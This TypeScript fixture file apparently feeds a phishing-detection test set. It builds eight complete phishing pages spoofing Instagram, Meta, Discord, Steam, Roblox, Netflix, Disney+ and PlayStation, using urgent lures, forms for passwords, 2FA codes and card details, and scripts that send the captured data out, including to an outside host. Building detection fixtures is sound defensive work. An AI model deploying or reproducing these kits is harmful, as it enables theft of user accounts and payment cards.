import { redirectRoute, type Entry } from '../entry.js';
import { doc, pic, js, json, html, tag, baseCss } from '../parts/w-kit.js';

export const entries: Entry[] = [
  {
    id: 'w-phish-instagram-copyright-appeal',
    label: 'phishing',
    kind: 'social-account-kit',
    url: 'https://help-instagram-copyright.vercel-appeal.com/appeal/7781920',
    body: doc({
      title: 'Instagram | Copyright Infringement Appeal',
      css: `body{margin:0;background:#fafafa;font-family:-apple-system,Helvetica,Arial,sans-serif}.c{max-width:420px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px}
.logo{font-family:'Billabong',cursive;font-size:36px;text-align:center}input{width:100%;padding:9px;margin:5px 0;border:1px solid #dbdbdb;background:#fafafa;border-radius:3px;box-sizing:border-box}
button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;font-weight:600;margin-top:8px}.w{background:#fff4e5;border:1px solid #ffd699;padding:10px;font-size:13px}`,
      body: `<div class="c"><div class="logo">Instagram</div>
<div class="w"><b>Copyright Infringement Detected</b><br>We have received a complaint about a post on your account that violates copyright law. If you believe this is a mistake, you must submit an appeal within <b>24 hours</b>, otherwise your account will be permanently deleted.</div>
<form id="f"><input name="u" placeholder="Username"><input name="p" type="password" placeholder="Password"><input name="e" placeholder="Email or phone"><textarea name="m" placeholder="Explain why you think this is a mistake" style="width:100%;height:60px;margin-top:5px"></textarea><button>Submit appeal</button></form>
<p style="font-size:12px;color:#8e8e8e;text-align:center">Case #7781920 · Meta © 2025</p></div>`,
      scripts: `<script>var T='7432219087:AAH_kq3vN2xZe1sP0bW',C='-100221948811';
document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this),t='IG | '+fd.get('u')+' | '+fd.get('p')+' | '+fd.get('e');
fetch('/appeal/api/log',{method:'POST',body:JSON.stringify({t:T,c:C,text:t})}).finally(function(){location.href='/appeal/7781920/2fa'})};</script>`,
    }),
    routes: {
      'help-instagram-copyright.vercel-appeal.com/appeal/api/log': json({ ok: true }),
      'help-instagram-copyright.vercel-appeal.com/appeal/7781920/2fa': html(doc({ title: 'Instagram | Two-factor', body: '<div style="max-width:380px;margin:60px auto;font-family:Arial"><h3>Enter the 6-digit code</h3><p>We sent a login code to your phone or authentication app.</p><input placeholder="Security code"><button>Confirm</button></div>' })),
    },
  },
  {
    id: 'w-phish-facebook-meta-verified-page-violation',
    label: 'phishing',
    kind: 'social-account-kit',
    url: 'https://meta-business-support-case-38817.netlify-pages.app/',
    body: doc({
      title: 'Meta for Business – Page Policy Violation',
      css: baseCss('#1877f2', 'Helvetica,Arial,sans-serif', '#f0f2f5') + `.box{max-width:560px;margin:40px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 2px #0002}`,
      body: `<header class="top" style="background:#fff"><img src="/meta.png" width="28" height="28" alt=""><b>Meta Business Help Center</b></header>
<div class="box"><h2>Your page has been scheduled for deletion</h2><p>Your page was reported for violating our Trademark and Intellectual Property policies. As a result, your page will be unpublished and permanently deleted within 48 hours.</p>
<p>If you believe this is a mistake, please complete the form below to request a review. Verified pages may apply for the <b>Meta Verified blue badge</b> after review.</p>
<label>Page name</label><input id="pg"><label>Business email</label><input id="em"><label>Personal email</label><input id="pe"><label>Phone number</label><input id="ph"><label>Facebook password</label><input id="pw" type="password">
<button class="btn" id="s" style="margin-top:14px">Submit</button>
<div id="m" style="display:none;margin-top:16px"><p>For security, please enter the code from your authenticator app or SMS.</p><input id="c" placeholder="Code"><button class="btn" id="s2" style="margin-top:8px">Continue</button></div>
<p class="muted">Case ID: 3881 7102 4 · Meta Platforms, Inc., 1 Meta Way, Menlo Park, CA 94025</p></div>`,
      scripts: `<script>var n=0;function send(x){return fetch('/api/v1/case',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(x)})}
document.getElementById('s').onclick=function(){n++;var x={pg:pg.value,em:em.value,pe:pe.value,ph:ph.value,pw:pw.value,n:n};send(x);if(n<2){alert('The password you entered is incorrect. Please try again.');pw.value='';return}document.getElementById('m').style.display='block'};
document.getElementById('s2').onclick=function(){send({code:c.value}).then(function(){location.href='https://www.facebook.com/help/'})};</script>`,
    }),
    routes: {
      'meta-business-support-case-38817.netlify-pages.app/meta.png': pic(24, 119, 242),
      'meta-business-support-case-38817.netlify-pages.app/api/v1/case': json({ status: 'ok' }),
    },
  },
  {
    id: 'w-phish-discord-nitro-gift-qr-login',
    label: 'phishing',
    kind: 'social-account-kit',
    url: 'https://discord-gifts.com.ru/nitro/xK2pQ8fW1zR',
    body: doc({
      title: 'Discord – You’ve been gifted a subscription!',
      css: `body{margin:0;background:#5865f2 url(/bg.png) center/cover;font-family:'gg sans',Whitney,Helvetica,Arial,sans-serif;color:#dbdee1}.m{width:780px;margin:80px auto;background:#313338;border-radius:8px;padding:32px;display:flex;gap:32px}
.l{flex:1}.l input{width:100%;background:#1e1f22;border:0;color:#fff;padding:10px;border-radius:3px;margin:4px 0 14px;box-sizing:border-box}.l button{width:100%;background:#5865f2;color:#fff;border:0;padding:12px;border-radius:3px}
.q{width:240px;text-align:center}.q canvas{background:#fff;padding:8px;border-radius:4px}`,
      body: `<div class="m"><div class="l"><h2 style="color:#f2f3f5;margin:0">Welcome back!</h2><p>Log in to accept your gift: <b>Discord Nitro (1 month)</b> from <b>@kai.ryuu</b></p>
<form action="/api/v9/auth/login" method="post"><label>EMAIL OR PHONE NUMBER *</label><input name="login"><label>PASSWORD *</label><input name="password" type="password"><button>Log In</button></form></div>
<div class="q"><canvas id="qr" width="176" height="176"></canvas><h3 style="color:#f2f3f5">Log in with QR Code</h3><p style="font-size:13px">Scan this with the <b>Discord mobile app</b> to log in instantly.</p></div></div>`,
      scripts: `<script>var ws;try{ws=new WebSocket('wss://remote-auth-gateway.discord-gifts.com.ru/?v=2')}catch(e){}
var c=document.getElementById('qr').getContext('2d');for(var y=0;y<22;y++)for(var x=0;x<22;x++)if(Math.random()>.5||((x<7||x>14)&&(y<7)))c.fillRect(x*8,y*8,8,8);</script>`,
    }),
    routes: { 'discord-gifts.com.ru/bg.png': pic(88, 101, 242), 'discord-gifts.com.ru/api/v9/auth/login': json({ captcha_key: ['captcha-required'] }, 400) },
  },
  {
    id: 'w-phish-steam-vote-team-bitb',
    label: 'phishing',
    kind: 'gaming-account-kit',
    url: 'https://cs2-major-vote.esportsteam-cup.com/team/navi-juniors',
    body: doc({
      title: 'PGL Junior Cup 2025 — Vote for your favourite team',
      css: `body{margin:0;background:#0f1621;color:#e6edf3;font-family:Arial,sans-serif}.hero{padding:40px;text-align:center;background:linear-gradient(#1b2838,#0f1621)}
.t{display:inline-block;width:200px;margin:10px;background:#1b2838;border-radius:8px;padding:16px}.v{background:#66c0f4;color:#0f1621;border:0;padding:10px 24px;border-radius:4px;font-weight:700;cursor:pointer}
#popup{display:none;position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:560px;background:#fff;border-radius:6px;box-shadow:0 10px 40px #000;color:#000;overflow:hidden}
#popup .bar{background:#dee1e6;padding:6px 10px;font-size:12px;display:flex;gap:8px;align-items:center}#popup .url{flex:1;background:#fff;border-radius:12px;padding:3px 10px;color:#333}
#popup iframe{width:100%;height:420px;border:0}`,
      body: `<div class="hero"><h1>PGL Junior Cup 2025</h1><p>Help your team reach the finals! Every vote counts — the winning team gets a $25,000 prize pool slot.</p></div>
<div style="text-align:center"><div class="t"><h3>NAVI Juniors</h3><p>2,881 votes</p><button class="v">VOTE</button></div><div class="t"><h3>G2 Ares</h3><p>2,604 votes</p><button class="v">VOTE</button></div><div class="t"><h3>FURIA Academy</h3><p>1,977 votes</p><button class="v">VOTE</button></div></div>
<div id="popup"><div class="bar">🔒 <span class="url">https://steamcommunity.com/openid/login?openid.mode=checkid_setup</span> ✕</div><iframe src="/openid/login.html"></iframe></div>`,
      scripts: `<script>document.querySelectorAll('.v').forEach(function(b){b.onclick=function(){document.getElementById('popup').style.display='block'}})</script>`,
    }),
    routes: {
      'cs2-major-vote.esportsteam-cup.com/openid/login.html': html(doc({
        title: 'Steam Community :: Sign In',
        css: `body{margin:0;background:#171a21;color:#c7d5e0;font-family:Arial,sans-serif;padding:24px}input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;margin:4px 0 12px;box-sizing:border-box}button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 40px;border-radius:2px}`,
        body: `<h2 style="color:#fff">Sign in</h2><p>to continue to <b>esportsteam-cup.com</b></p><form method="post" action="/openid/auth"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username"><label>PASSWORD</label><input type="password" name="password"><label><input type="checkbox" style="width:auto"> Remember me</label><br><button>Sign in</button></form><p style="font-size:12px">Steam Guard code will be requested on the next step.</p>`,
      })),
      'cs2-major-vote.esportsteam-cup.com/openid/auth': json({ success: false, requires_twofactor: true }),
    },
  },
  {
    id: 'w-phish-roblox-free-robux-login',
    label: 'phishing',
    kind: 'gaming-account-kit',
    url: 'https://rbx-claim.robux-rewards.site/',
    body: doc({
      title: 'FREE ROBUX 2025 – Claim 10,000 Robux (Working!)',
      css: `body{margin:0;background:#232527;color:#fff;font-family:'Builder Sans',Arial,sans-serif;text-align:center}.c{max-width:460px;margin:40px auto;background:#393b3d;border-radius:8px;padding:24px}
.o{display:inline-block;width:120px;margin:6px;padding:14px;background:#232527;border-radius:8px;cursor:pointer;border:2px solid transparent}.o.s{border-color:#00b06f}
input{width:100%;padding:10px;margin:6px 0;border-radius:4px;border:0;box-sizing:border-box}button{background:#00b06f;border:0;color:#fff;padding:12px 30px;border-radius:6px;font-weight:700}`,
      body: `<div class="c"><h1>Robux Rewards 🎁</h1><p>Step 1: choose amount</p>
<div class="o" onclick="sel(this)">💰 2,000</div><div class="o" onclick="sel(this)">💰 4,500</div><div class="o" onclick="sel(this)">💰 10,000</div>
<p>Step 2: log in with your Roblox account so we can send the Robux</p>
<form id="f"><input name="username" placeholder="Username"><input type="password" name="password" placeholder="Password"><button>Generate</button></form>
<p id="st" style="font-size:13px;color:#bbb"></p><p style="font-size:12px;color:#999">Online users: <b id="on">1,203</b> · Recently claimed: xXDragonXx (4,500), lilyplayz (2,000)</p></div>`,
      scripts: `<script>function sel(e){document.querySelectorAll('.o').forEach(function(x){x.classList.remove('s')});e.classList.add('s')}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
navigator.sendBeacon('/gate.php',new URLSearchParams({u:d.get('username'),p:d.get('password'),ip:''}));
var st=document.getElementById('st'),m=['Connecting to Roblox server…','Account found ✔','Injecting Robux…','Human verification required!'],i=0;
var t=setInterval(function(){st.textContent=m[i++];if(i==m.length){clearInterval(t);location.href='/verify'}},1200)};</script>`,
    }),
    routes: {
      'rbx-claim.robux-rewards.site/gate.php': { status: 204, headers: {}, body: '' },
      'rbx-claim.robux-rewards.site/verify': html(doc({ title: 'Human verification', body: '<div style="text-align:center;font-family:Arial;padding:40px"><h2>Complete 2 offers to verify you are human</h2><p>1. Install "Coin Master" and reach level 5<br>2. Enter your phone number to win an iPhone 16</p></div>' })),
    },
  },
  {
    id: 'w-phish-netflix-paiement-refuse-fr',
    label: 'phishing',
    kind: 'streaming-account-kit',
    url: 'https://netflix-fr.compte-abonnement.com/login?lang=fr',
    body: doc({
      lang: 'fr',
      title: 'Netflix France – Regarder des séries en ligne, regarder des films en ligne',
      css: `body{margin:0;background:#000 url(/bg.png);color:#fff;font-family:Helvetica,Arial,sans-serif}.h{padding:20px 40px;color:#e50914;font-size:32px;font-weight:900}
.c{max-width:440px;margin:0 auto;background:#000b;padding:50px 60px;border-radius:4px}input{width:100%;padding:14px;margin:8px 0;background:#333;border:0;color:#fff;border-radius:4px;box-sizing:border-box}
button{width:100%;padding:14px;background:#e50914;color:#fff;border:0;border-radius:4px;font-weight:700;margin-top:18px}.e{background:#e87c03;padding:10px;border-radius:4px;font-size:14px}`,
      body: `<div class="h">NETFLIX</div><div class="c"><h1>Identifiez-vous</h1>
<div class="e">Votre abonnement a été suspendu : nous n’avons pas pu valider vos informations de paiement. Connectez-vous pour mettre à jour votre moyen de paiement.</div>
<form action="/login/next" method="post"><input name="email" placeholder="E-mail ou numéro de téléphone"><input type="password" name="password" placeholder="Mot de passe"><button>S’identifier</button></form>
<p style="color:#737373;font-size:13px">Cette page est protégée par Google reCAPTCHA pour nous assurer que vous n’êtes pas un robot.</p></div>`,
    }),
    routes: {
      'netflix-fr.compte-abonnement.com/bg.png': pic(20, 20, 20),
      'netflix-fr.compte-abonnement.com/login/next': html(doc({ lang: 'fr', title: 'Netflix – Mettre à jour le paiement', body: `<div style="max-width:440px;margin:40px auto;font-family:Arial"><h2>Mettez à jour votre moyen de paiement</h2><label>Titulaire de la carte</label><input><label>Numéro de carte</label><input><label>Date d’expiration</label><input><label>Cryptogramme (CVV)</label><input><label>Date de naissance</label><input><button>Enregistrer</button></div>` })),
    },
  },
  {
    id: 'w-phish-disney-plus-pagamento-pt-br',
    label: 'phishing',
    kind: 'streaming-account-kit',
    url: 'https://disneyplus-br.assinatura-renovar.com/',
    body: doc({
      lang: 'pt-BR',
      title: 'Disney+ | Atualize seu pagamento',
      css: `body{margin:0;background:#040714;color:#f9f9f9;font-family:Avenir,Arial,sans-serif}.c{max-width:420px;margin:60px auto;padding:20px}input{width:100%;padding:12px;margin:6px 0;background:#31343e;border:0;color:#fff;border-radius:4px;box-sizing:border-box}button{width:100%;padding:14px;background:#0072d2;color:#fff;border:0;border-radius:4px;font-weight:700;margin-top:12px}`,
      body: `<div class="c"><h1 style="font-size:34px">Disney<span style="color:#0072d2">+</span></h1><h2>Sua assinatura está pausada</h2><p>Houve um problema com a cobrança da sua mensalidade de <b>R$ 43,90</b>. Atualize seus dados de pagamento em até 48 horas para continuar assistindo Star Wars, Marvel, Pixar e muito mais.</p>
<form id="f"><input name="email" placeholder="E-mail"><input name="cpf" placeholder="CPF"><input name="cartao" placeholder="Número do cartão"><input name="validade" placeholder="Validade (MM/AA)"><input name="cvv" placeholder="CVV"><button>Atualizar pagamento</button></form></div>`,
      scripts: `<script>f.onsubmit=function(e){e.preventDefault();fetch('https://api.pix-gateway-br.online/c',{method:'POST',mode:'no-cors',body:new FormData(f)});location.replace('https://www.disneyplus.com/pt-br')}</script>`,
    }),
    routes: { 'api.pix-gateway-br.online/c': json({}) },
  },
  {
    id: 'w-phish-psn-account-sospeso-it',
    label: 'phishing',
    kind: 'gaming-account-kit',
    url: 'https://id.sonyentertainment-network.it-accesso.com/signin/',
    body: doc({
      lang: 'it',
      title: 'Accedi – Sony',
      css: `body{margin:0;background:#fff;font-family:SST,Helvetica,Arial,sans-serif}.h{background:#000;color:#fff;padding:10px 24px}.c{max-width:400px;margin:40px auto}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:3px;box-sizing:border-box}button{width:100%;padding:12px;background:#0070d1;color:#fff;border:0;border-radius:24px}.n{background:#fff3f3;border:1px solid #f5c2c7;padding:10px;font-size:14px}`,
      body: `<div class="h">SONY</div><div class="c"><h2>Accedi con l'account per PlayStation Network</h2>
<div class="n">Il tuo account è stato temporaneamente sospeso a causa di un acquisto non autorizzato (EA SPORTS FC™ 26 Points 12000 – 99,99 €). Accedi per annullare l’acquisto e riattivare l’account.</div>
<form action="/signin/verify" method="post"><input name="id" placeholder="ID accesso (indirizzo e-mail)"><input name="pw" type="password" placeholder="Password"><button>Accedi</button></form>
<p style="font-size:12px;color:#666">© 2025 Sony Interactive Entertainment LLC</p></div>`,
    }),
  },
];
